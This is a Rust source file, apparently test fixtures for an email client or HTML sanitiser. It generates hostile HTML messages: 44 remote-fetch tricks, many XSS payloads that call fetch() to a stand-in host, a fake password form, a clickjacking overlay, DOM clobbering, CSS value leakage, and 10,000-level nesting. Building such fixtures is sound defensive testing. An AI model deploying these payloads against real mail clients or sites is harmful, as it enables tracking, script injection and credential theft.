//! Hostile HTML: it fetches, runs, or breaks.

fn page(subject: &str, markup: &str) -> Vec<u8> {
    format!(
        "From: a@x.test\r\nSubject: {subject}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{markup}\r\n"
    )
    .into_bytes()
}

/// Ways to ask a stranger; `@` stands for an address of theirs, a new one each time.
const WAYS_TO_ASK: [&str; 44] = [
    "<link rel=stylesheet href='@'>",
    "<link rel=prefetch href='@'>",
    "<link rel=preload as=image href='@'>",
    "<link rel='dns-prefetch preconnect' href='@'>",
    "<link rel=icon href='@'>",
    "<style>@import '@@';</style>",
    "<style>@import url(\"@@\") screen;</style>",
    "<style>body{background:url(@)}</style>",
    "<style>p::before{content:url('@')}</style>",
    "<style>li{list-style-image:url(@)}</style>",
    "<style>a{cursor:url(@),auto}</style>",
    "<style>b{border-image:image-set('@' 1x)}</style>",
    "<style>i{mask:url(@#m)}</style>",
    "<style>@font-face{font-family:f;src:url(@)}p{font-family:f}</style>",
    "<style>p{background:u\\72l(@)}</style>",
    "<meta http-equiv=refresh content='0;url=@'>",
    "<base href='@'>",
    "<body background='@'>",
    "<img src='@'>",
    "<img srcset='@ 2x'>",
    "<img src=cid:none lowsrc='@'>",
    "<picture><source srcset='@'><img src=cid:none></picture>",
    "<div style='background:url(@)'>x</div>",
    "<div style=\"background-image:url(&quot;@&quot;)\">x</div>",
    "<div style='background:/**/URL( @ )'>x</div>",
    "<table background='@'><tr><td background='@'>x</td></tr></table>",
    "<iframe src='@'></iframe>",
    "<iframe srcdoc=\"<img src='@'>\"></iframe>",
    "<frameset><frame src='@'></frameset>",
    "<object data='@'></object>",
    "<embed src='@'>",
    "<applet code='@'></applet>",
    "<video poster='@' autoplay></video>",
    "<video src='@' autoplay></video>",
    "<video autoplay><track default src='@'><source src='@'></video>",
    "<audio src='@' autoplay></audio>",
    "<input type=image src='@'>",
    "<svg><image href='@'/></svg>",
    "<svg><image xlink:href='@'/></svg>",
    "<svg><use href='@#a'/></svg>",
    "<svg><filter id=f><feImage href='@'/></filter><rect filter='url(@#f)'/></svg>",
    "<math><mi xlink:href='@'>x</mi></math>",
    "<img src='/\\@'>",
    "<v:rect><v:fill src='@'/></v:rect><!--[if mso]><img src='@'><![endif]-->",
];

/// HTML that asks a stranger for pictures, styles and more in every way known to us, and tries to run. The
/// addresses are `<stranger>/1`, `<stranger>/2` and so on; the words `visible words` are harmless.
pub fn fetching(stranger: &str) -> Vec<u8> {
    let mut count = 0;
    let mut markup = String::from("<html><p>visible words</p>");
    for way in WAYS_TO_ASK {
        // In a rule of CSS, `@` itself is needed: there the address is `@@`.
        let way = if way.contains("@@") {
            way.replace("@@", "\0")
        } else {
            way.replace("@font", "\u{1}font").replace('@', "\0")
        };
        for (index, piece) in way.split('\0').enumerate() {
            if index > 0 {
                count += 1;
                markup.push_str(&format!("{stranger}/{count}"));
            }
            markup.push_str(&piece.replace('\u{1}', "@"));
        }
        markup.push('\n');
    }
    markup.push_str("</html>");
    page("fetching", &markup)
}

/// HTML that tries to run, to leave, to catch input and to cover the page; what runs tells the stranger.
pub fn running(stranger: &str) -> Vec<u8> {
    let call = format!("fetch('{stranger}/ran')");
    let markup = format!(
        "<p>visible words</p><script>{call}</script><script src='{stranger}/script'></script>\
         <img src=x onerror=\"{call}\"><svg onload=\"{call}\"></svg><svg><script>{call}</script></svg>\
         <body onload=\"{call}\"><details open ontoggle=\"{call}\">d</details><input autofocus onfocus=\"{call}\">\
         <a href=\"javascript:{call}\">a</a><a href=\" java\tscript:{call}\">b</a><a href='data:text/html,<script>{call}</script>'>c</a>\
         <a href=\"{stranger}/link\" target=_top ping='{stranger}/ping'>d</a><a href='file:///etc/passwd'>e</a>\
         <form action='{stranger}/form'><input name=password type=password><button formaction='javascript:{call}'>Sign in</button></form>\
         <iframe src=\"javascript:{call}\"></iframe><object data=\"javascript:{call}\"></object><embed src=\"javascript:{call}\">\
         <math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={call}&gt;\"></table></mtext></math>\
         <noscript><p title=\"</noscript><img src=x onerror={call}>\"></noscript><template><script>{call}</script></template>\
         <style>p{{behavior:url({stranger}/htc);-moz-binding:url({stranger}/xbl);width:expression({call})}}</style>\
         <div style='position:fixed;inset:0;z-index:99999;opacity:0.01'><a href='{stranger}/cover'>everywhere</a></div>\
         <div id=getElementById name=cookie></div><img name=body><form id=document></form>\
         <style>input[value^=a]{{background:url({stranger}/leak)}} *{{display:none!important}}</style><plaintext>"
    );
    page("running", &markup)
}

/// HTML that is ten thousand levels deep.
pub fn deep_html() -> Vec<u8> {
    let mut message = b"From: a@x.test\r\nSubject: deep\r\nContent-Type: text/html\r\n\r\n".to_vec();
    for _ in 0..10_000 {
        message.extend_from_slice(b"<div>\r\n");
    }
    message.extend_from_slice(b"at the bottom\r\n");
    message
}
